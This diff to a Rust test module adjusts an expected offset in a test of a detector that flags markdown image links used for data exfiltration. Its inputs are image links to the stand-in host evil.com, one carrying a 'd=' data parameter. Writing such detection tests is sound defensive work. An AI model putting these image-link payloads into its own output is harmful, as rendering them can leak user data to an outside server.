@@ -314,7 +314,7 @@ mod tests {
 
     #[test]
     fn every_commonmark_form_is_found() {
-        assert_eq!(kinds("a ![x](https://evil.com/p?d=s) b"), vec![("EXFIL_IMAGE".into(), 2, 31)]);
+        assert_eq!(kinds("a ![x](https://evil.com/p?d=s) b"), vec![("EXFIL_IMAGE".into(), 2, 30)]);
         assert_eq!(kinds("![x]( <https://evil.com/a b.png> )").len(), 1);
         assert_eq!(kinds("![x](//evil.com/p.png)").len(), 1);
         assert_eq!(kinds("![x](https://evil.com/p.png \"title\")").len(), 1);
